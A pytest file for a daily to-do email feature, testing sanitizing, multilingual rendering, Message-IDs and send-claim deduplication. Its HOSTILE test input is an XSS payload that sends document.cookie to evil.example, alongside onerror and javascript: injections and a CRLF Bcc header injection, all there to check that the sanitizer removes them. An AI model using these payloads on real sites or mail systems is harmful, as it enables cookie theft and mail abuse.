"""Daily email pieces without Prefect: sanitizing, rendering, the Message-ID, and the claim's states."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from pydantic import SecretStr
from todo_rows import events, make_user

from blocks.llm_types import DailyEmailContext, EmailTodo
from blocks.mailer import OutboxMailer, SmtpMailer
from blocks.offline import OfflineLLM
from blocks.rules.languages import LANGUAGES
from blocks.rules.mail_writer import format_local_day, labels_for
from store.db import session_scope
from tasks.emails.claims import claim, dedup_key, stable_message_id
from tasks.emails.compose import one_line, plain_text, render_email

MONDAY = dt.date(2026, 11, 23)
HOSTILE = ('Bonjour <b>Ada</b>!<script>fetch("https://evil.example/?c="+document.cookie)</script>'
           '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">clique</a> & à bientôt')


def _context(language: str = "fr") -> DailyEmailContext:
    return DailyEmailContext(
        user_name="Ada Martin", language_code=language, local_date=MONDAY, weekday="Monday",
        today=[EmailTodo(description="Envoyer le deck <v4> à Claire & Marc", execution_title="Revue du deck <3",
                         scheduled_for=MONDAY, previous_date=dt.date(2026, 11, 19), justification="Jeudi était plein.")],
        rescheduled=[EmailTodo(description="Appeler la banque", execution_title="Plan de trésorerie",
                               scheduled_for=dt.date(2026, 11, 25), previous_date=dt.date(2026, 11, 18),
                               justification="Mercredi est calme.")],
    )


def test_model_text_is_reduced_to_plain_text() -> None:
    text = plain_text(HOSTILE)
    assert "<" not in text and "script" not in text and "onerror" not in text and "evil" not in text
    assert text == "Bonjour Ada!clique & à bientôt"
    assert one_line("Vos tâches\r\nBcc: everyone@example.com") == "Vos tâches Bcc: everyone@example.com"


def test_render_escapes_everything_in_html_and_keeps_the_text_part_readable() -> None:
    rendered = render_email(_context(), {"subject": "Vos tâches <i>du jour</i>\n", "body": HOSTILE})
    assert rendered.subject == "Vos tâches du jour"
    for part in (rendered.html, rendered.text):
        assert "<script" not in part and "onerror" not in part and "javascript:" not in part
    assert "Envoyer le deck &lt;v4&gt; à Claire &amp; Marc" in rendered.html
    assert "Revue du deck &lt;3" in rendered.html
    assert "Bonjour Ada!clique &amp; à bientôt" in rendered.html
    assert "- Envoyer le deck <v4> à Claire & Marc (issue de Revue du deck <3)" in rendered.text
    assert "reportée du jeudi 19 novembre: Jeudi était plein." in rendered.text
    assert "Reportées depuis hier" in rendered.text
    assert "mercredi 18 novembre -> mercredi 25 novembre: Mercredi est calme." in rendered.text


def test_english_labels_and_an_empty_day() -> None:
    context = _context("en").model_copy(update={"today": [], "rescheduled": []})
    rendered = render_email(context, {"subject": "Your todos", "body": "Good morning Ada"})
    assert "Nothing is due today." in rendered.text and "<h2" in rendered.html and "Moved since" not in rendered.text


@pytest.mark.parametrize("writer_body", [None, "Good morning Ada,\n\nNothing is due today.\n\nHave a good day!"])
def test_an_empty_day_says_so_once(writer_body: str | None) -> None:
    """The offline writer, or a model, writing "Nothing is due today." above the list that says it: once."""
    context = _context("en").model_copy(update={"today": [], "rescheduled": []})
    written = OfflineLLM().write_daily_email(context) if writer_body is None else {"subject": "Todos", "body": writer_body}
    rendered = render_email(context, written)
    assert rendered.text.count("Nothing is due today.") == 1
    assert rendered.html.count("Nothing is due today.") == 1
    lines = [line for line in rendered.text.splitlines() if line.strip()]
    assert len(lines) == len(set(lines)), rendered.text


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_language_of_the_extractor_has_its_mail(language: str) -> None:
    """Subject, greeting, labels and dates in each language the offline extractor has rules for."""
    context = _context(language)
    rendered = render_email(context, OfflineLLM().write_daily_email(context))
    labels = labels_for(language)
    assert labels["today"] in rendered.text and labels["rescheduled"] in rendered.text
    assert format_local_day(MONDAY, language) in rendered.subject
    if language != "en":
        assert labels["today"] != labels_for("en")["today"]
        assert "Good morning" not in rendered.text


def test_message_id_is_stable_per_user_and_local_day() -> None:
    key = dedup_key(7, MONDAY)
    assert key == "todo_daily_email:7:2026-11-23"
    first = stable_message_id(key, "nightshift <bot@mail.example.com>")
    assert first == stable_message_id(key, "nightshift <bot@mail.example.com>")
    assert first.startswith("<todo-daily-email.7.2026-11-23.") and first.endswith("@mail.example.com>")
    assert first != stable_message_id(dedup_key(7, MONDAY + dt.timedelta(days=1)), "bot@mail.example.com")


FRESH, STALE = dt.timedelta(minutes=15), dt.timedelta(seconds=0)


def _claim(url: str, mailer, user: int, owner: str, stale_after: dt.timedelta = FRESH) -> str:  # type: ignore[no-untyped-def]
    key = dedup_key(user, MONDAY)
    with session_scope(url) as session:
        return claim(session, mailer, key, user, stable_message_id(key, mailer.from_address), owner, stale_after)


def _set_status(url: str, user: int, status: str) -> None:
    from store.events import set_event_payload

    key = dedup_key(user, MONDAY)
    payload = {**events(url)[key], "status": status}
    with session_scope(url) as session:
        set_event_payload(session, key, payload)


def test_claim_states(db_url: str, tmp_path: Path) -> None:
    outbox = OutboxMailer(folder=str(tmp_path / "outbox"))
    user = make_user(db_url, "Europe/Paris")
    assert _claim(db_url, outbox, user, "run-a") == "claimed"
    assert _claim(db_url, outbox, user, "run-b") == "in-flight"  # a live claim of another run
    assert _claim(db_url, outbox, user, "run-a") == "claimed"  # the same run, retried
    # A claim that never reached the mailer and is stale: taken over and sent again.
    assert _claim(db_url, outbox, user, "run-b", STALE) == "claimed"
    payload = events(db_url)[dedup_key(user, MONDAY)]
    assert (payload["owner"], payload["attempt"], payload["previous_status"]) == ("run-b", 3, "claimed")
    _set_status(db_url, user, "sent")
    assert _claim(db_url, outbox, user, "run-c", STALE) == "already-sent"


def test_a_claim_that_died_in_the_mailer(db_url: str, tmp_path: Path) -> None:
    outbox = OutboxMailer(folder=str(tmp_path / "outbox"))
    smtp = SmtpMailer(host="127.0.0.1", port=9, username="u", password=SecretStr("p"))
    gone, written, unknowable = (make_user(db_url, None) for _ in range(3))
    for user in (gone, written, unknowable):
        assert _claim(db_url, outbox, user, "crashed-run") == "claimed"
        _set_status(db_url, user, "sending")
    # The outbox can tell: no file means it never went out (send again), a file means it did.
    assert _claim(db_url, outbox, gone, "next-run", STALE) == "claimed"
    message_id = stable_message_id(dedup_key(written, MONDAY), outbox.from_address)
    outbox.path_of(message_id).parent.mkdir(parents=True)
    outbox.path_of(message_id).write_text("Subject: sent before the crash\n\nhi\n")
    assert _claim(db_url, outbox, written, "next-run", STALE) == "already-sent"
    assert events(db_url)[dedup_key(written, MONDAY)]["status"] == "sent"
    # SMTP cannot tell: never sent twice, marked unknown for an operator.
    assert _claim(db_url, smtp, unknowable, "next-run", STALE) == "unknown"
    assert _claim(db_url, smtp, unknowable, "later-run", STALE) == "unknown"
    assert events(db_url)[dedup_key(unknowable, MONDAY)]["status"] == "unknown"


@pytest.mark.parametrize("status", ["claimed", "failed"])
def test_a_stale_or_refused_claim_is_taken_by_only_one_of_two_runs(db_url: str, tmp_path: Path, status: str) -> None:
    outbox = OutboxMailer(folder=str(tmp_path / "outbox"))
    user = make_user(db_url, "Europe/Paris")
    assert _claim(db_url, outbox, user, "first") == "claimed"
    _set_status(db_url, user, status)
    key = dedup_key(user, MONDAY)
    from store.events import read_event, replace_event_payload

    with session_scope(db_url) as session:
        seen = read_event(session, key)
    assert _claim(db_url, outbox, user, "second", STALE) == "claimed"
    with session_scope(db_url) as session:  # a third run that read before the second one won
        assert not replace_event_payload(session, seen, {"status": "claimed", "owner": "third"})
    assert events(db_url)[key]["owner"] == "second"
